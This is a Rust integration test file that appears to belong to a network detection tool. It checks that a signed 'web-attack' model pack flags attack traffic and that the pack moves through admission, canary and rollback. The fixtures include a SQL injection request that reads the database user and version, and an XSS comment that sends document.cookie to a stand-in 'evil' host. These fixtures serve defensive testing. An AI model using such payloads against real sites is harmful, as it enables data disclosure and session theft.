//! Packs on traffic: in a capture, and from admission to rollback at a shield.

use std::path::Path;
use std::time::Duration;

use serde_json::{Value, json};

use crate::common::{Process, output, run, wait_for};
use crate::traffic::Traffic;

/// The packs that come with Shieldwall.
const PACKS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../models/packs");

const ATTACK: &[u8] = b"GET /item.php?id=-1%27+UNION+SELECT+1,concat(user(),0x3a,version()),3+FROM+information_schema.tables--+- HTTP/1.1\r\nHost: shop.example\r\n\r\n";
const POSTED: &[u8] = b"POST /comment HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 72\r\n\r\nname=a&text=<script>document.location='//evil/'+document.cookie</script>";

fn web_attack() -> String {
    format!("{PACKS}/web-attack.swpack")
}

fn eventually(what: &str, mut is_there: impl FnMut() -> bool) {
    wait_for(what, Duration::from_secs(60), || is_there().then_some(()));
}

fn lines(text: &str) -> Vec<Value> {
    let lines = text.lines();
    lines
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

#[test]
fn a_scan_finds_attacks_by_a_pack_and_says_why() {
    let temp = tempfile::tempdir().unwrap();
    let mut traffic = Traffic::default();
    traffic.benign_sessions("198.51.100.7", 20);
    traffic.request(
        "198.51.100.8",
        b"GET /wiki/Rock_%26_Roll?page=2&q=select+a+table HTTP/1.1\r\nHost: wiki.example\r\n\r\n",
    );
    traffic.request("198.51.100.66", ATTACK);
    traffic.request("198.51.100.67", POSTED);
    let capture = temp.path().join("in.pcap");
    std::fs::write(&capture, traffic.pcap()).unwrap();
    let capture = capture.to_str().unwrap();
    let records = lines(&run(&[
        "scan",
        capture,
        "--pack",
        &web_attack(),
        "--alerts-only",
        "--eve",
        "-",
    ]));
    let from: Vec<_> = records
        .iter()
        .map(|record| record["src_ip"].as_str().unwrap())
        .collect();
    assert_eq!(from, ["198.51.100.66", "198.51.100.67"], "{records:#?}");
    says_why(&records);
    other_ways(capture, temp.path());
}

/// What a record says of the model, the pack and the features.
fn says_why(records: &[Value]) {
    let (first, second) = (&records[0], &records[1]);
    assert_eq!(first["alert"]["signature_id"], 9_300_001);
    assert_eq!(
        first["http"]["url"].as_str().unwrap().get(..9),
        Some("/item.php")
    );
    let model = &first["shieldwall"]["model"];
    assert_eq!(
        (&model["task"], &model["stage"]),
        (&json!("web-attack"), &json!("scan"))
    );
    assert_eq!(model["field"], "query id");
    assert!(
        model["text"].as_str().unwrap().contains("union select"),
        "{model}"
    );
    assert!(model["score"].as_f64() >= model["threshold"]["score"].as_f64());
    assert_eq!(model["threshold"]["fpr"], 0.001);
    assert!(!model["features"].as_array().unwrap().is_empty());
    let packed = &model["pack"];
    assert_eq!(
        (&packed["name"], &packed["file"]),
        (&json!("web-attack-baseline"), &json!("models/model.onnx"))
    );
    let inspected: Value =
        serde_json::from_str(&run(&["pack", "inspect", &web_attack(), "--json"])).unwrap();
    assert_eq!(packed["digest"], inspected["digest"]);
    assert_eq!(second["shieldwall"]["model"]["field"], "form text");
}

fn other_ways(capture: &str, at: &Path) {
    // several threads find the same, and a folder is all packs in it
    let also = run(&[
        "scan",
        capture,
        "--pack",
        PACKS,
        "--threads",
        "2",
        "--alerts-only",
        "--eve",
        "-",
    ]);
    assert_eq!(lines(&also).len(), 2, "{also}");
    // whom nobody trusts judges nothing
    let trust = at.join("trust.toml");
    std::fs::write(&trust, "threshold = 1\n[[key]]\nholder = \"X\"\npublic = \"11qYAYKxCrfVS/7TyWQHOg7hcvPapiMlrwIaaPcHURo=\"\n").unwrap();
    let refused = output(&[
        "scan",
        capture,
        "--pack",
        &web_attack(),
        "--trust",
        trust.to_str().unwrap(),
    ]);
    let said = String::from_utf8_lossy(&refused.stderr).into_owned();
    assert_eq!(refused.status.code(), Some(2));
    assert!(
        said.contains("web-attack.swpack") && said.contains("signed by 0 of those"),
        "{said}"
    );
}

/// A shield that replays benign sessions again and again, and asks little of packs.
fn shield(at: &Path, admission: &str) -> String {
    let mut traffic = Traffic::default();
    for client in 1..=20 {
        traffic.benign_sessions(&format!("198.51.100.{client}"), 3);
    }
    std::fs::write(at.join("in.pcap"), traffic.pcap()).unwrap();
    let key = std::fs::read_to_string(format!("{PACKS}/web-attack.pub")).unwrap();
    let trust = format!(
        "threshold = 1\n[[key]]\nholder = \"Shieldwall\"\npublic = \"\"\"\n{key}\n\"\"\"\n"
    );
    std::fs::write(at.join("trust.toml"), trust).unwrap();
    std::fs::write(at.join("admission.toml"), admission).unwrap();
    let config = json!({
        "name": "s1", "data": at.join("data"),
        "capture": {"pcap": at.join("in.pcap"), "pace": "fast", "repeat": true},
        "enforce": {"mode": "dry-run"}, "home": {"networks": ["203.0.113.0/24"]},
        "packs": {"trust": at.join("trust.toml"), "admission": at.join("admission.toml")},
    });
    let file = at.join("shield.toml");
    std::fs::write(&file, toml::to_string(&config).unwrap()).unwrap();
    file.to_str().unwrap().to_owned()
}

fn answer(args: &[&str]) -> (Option<i32>, Value) {
    let output = output(&[args, &["--json"]].concat());
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    let line = text.lines().next().unwrap_or_default();
    (
        output.status.code(),
        serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {text} {output:?}")),
    )
}

#[test]
fn a_pack_lives_at_a_shield_from_admission_to_rollback() {
    let temp = tempfile::tempdir().unwrap();
    let strict = "trained_days_max = 100000\npublishers = [\"Others\"]\n";
    let config = shield(temp.path(), strict);
    let why = [
        "--config",
        config.as_str(),
        "--by",
        "ana",
        "--why",
        "we try it",
    ];
    let step = |what: &[&str]| answer(&[&["pack"], what, &why].concat());
    let (code, said) = step(&["admit", &web_attack()]);
    assert_eq!(
        (code, &said["failed"][0]["clause"]),
        (Some(1), &json!("publishers")),
        "{said}"
    );
    assert_eq!(
        said["failed"][0]["mend"],
        "add \"Shieldwall\" to publishers"
    );
    let kind = "trained_days_max = 100000\n[promotion]\ndwell_s = 0\ncanary_sessions_min = 30\n[budget]\nhistory_min = 1\n";
    std::fs::write(temp.path().join("admission.toml"), kind).unwrap();
    let (code, said) = step(&["admit", &web_attack()]);
    assert_eq!(
        (code, &said["steps"][0]["to"]),
        (Some(0), &json!("shadow")),
        "{said}"
    );
    let (code, said) = step(&["promote", "web-attack-baseline"]);
    assert_eq!(
        (code, &said["failed"][0]["clause"]),
        (Some(1), &json!("sessions")),
        "{said}"
    );
    while_it_runs(&config, temp.path(), &step);
}

/// The exit status and what was said, of a step in the life of a pack.
type Take<'a> = dyn Fn(&[&str]) -> (Option<i32>, Value) + 'a;

fn while_it_runs(config: &str, at: &Path, step: &Take<'_>) {
    let running = Process::start(&["shield", "run", "--config", config]);
    let status = || answer(&["pack", "status", "--config", config]).1;
    eventually("benign sessions are scored", || {
        status()["models"][0]["sessions"].as_u64() >= Some(30)
    });
    assert_eq!(status()["models"][0]["hits"], 0);
    let (code, said) = step(&["promote", "web-attack-baseline", "--percent", "20"]);
    assert_eq!(
        (code, &said["steps"][0]["to"]),
        (Some(0), &json!("canary")),
        "{said}"
    );
    let journal = at.join("data/journal.jsonl");
    let told = |stage: &str| {
        let text = std::fs::read_to_string(&journal).unwrap_or_default();
        // the last line may be in the making
        let whole = text.rsplit_once('\n').map_or("", |(whole, _)| whole);
        let all = lines(whole);
        all.iter().any(|line| {
            line["event"] == "pack"
                && line["stage"] == stage
                && line["by"] == "ana"
                && line["why"] == "we try it"
        })
    };
    eventually("the canary is in force", || told("canary"));
    let (code, said) = step(&["promote", "web-attack-baseline"]);
    assert_eq!(
        (code, said["done"].as_bool()),
        (Some(1), Some(false)),
        "too few sessions to enforce: {said}"
    );
    let (code, said) = step(&["rollback", "web-attack-baseline"]);
    assert_eq!(
        (code, &said["steps"][0]["to"]),
        (Some(0), &json!("rolled-back")),
        "{said}"
    );
    eventually("the rollback is in force", || told("rolled-back"));
    drop(running);
    let log = std::fs::read_to_string(at.join("data/packs/log.jsonl")).unwrap();
    let stages: Vec<_> = lines(&log).iter().map(|line| line["to"].clone()).collect();
    assert_eq!(stages, ["shadow", "canary", "rolled-back"]);
}
